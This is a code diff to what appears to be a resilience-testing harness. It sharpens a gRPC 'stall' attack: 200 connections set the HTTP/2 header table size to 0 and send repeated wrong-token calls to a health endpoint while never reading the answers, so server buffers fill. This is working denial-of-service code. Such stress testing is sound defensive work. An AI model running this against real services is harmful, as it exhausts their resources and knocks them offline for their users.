@@ -4,7 +4,7 @@ import { setTimeout as pause } from 'node:timers/promises';
 
 import type { Attack, AttackOptions, AttackSize } from '../attack';
 import { openSockets, pour } from '../attack-sockets';
-import { body, callHeaders, message, openHttp2, preface } from '../http2-frames';
+import { body, callHeaders, message, openHttp2, preface, setting } from '../http2-frames';
 
 const CHECK = '/grpc.health.v1.Health/Check';
 const WATCH = '/grpc.health.v1.Health/Watch';
@@ -23,11 +23,14 @@ const STRANGER = { 'dapr-api-token': 'guessed' };
 const connections = (size: AttackSize, full: number): number =>
   size === 'full' ? full : full / 10;
 
-async function openMany(port: number, count: number): Promise<Socket[]> {
+async function openMany(port: number, count: number, settings?: Buffer): Promise<Socket[]> {
   const sockets = await openSockets(port, count);
-  for (const socket of sockets) socket.write(preface());
+  for (const socket of sockets) socket.write(preface(settings));
   return sockets;
 }
+
+/** With 0 no header of an answer is shortened, and answers fill what is not read (RFC 9113, 6.5.2). */
+const HEADER_TABLE_SIZE = 1;
 
 /** A name in field 1 of a message. */
 function named(name: Buffer): Buffer {
@@ -197,7 +200,8 @@ export const grpcUnread: Attack = {
   description: '200 connections call with a wrong token again and again and read no answer.',
   kind: 'stall',
   run: async ({ target, size }) => {
-    const sockets = await openMany(target.grpcPort, connections(size, 200));
+    const settings = setting(HEADER_TABLE_SIZE, 0);
+    const sockets = await openMany(target.grpcPort, connections(size, 200), settings);
     for (const socket of sockets) socket.pause();
     const endsAt = performance.now() + 4000;
     for (let stream = 1; performance.now() < endsAt; stream += 40) {
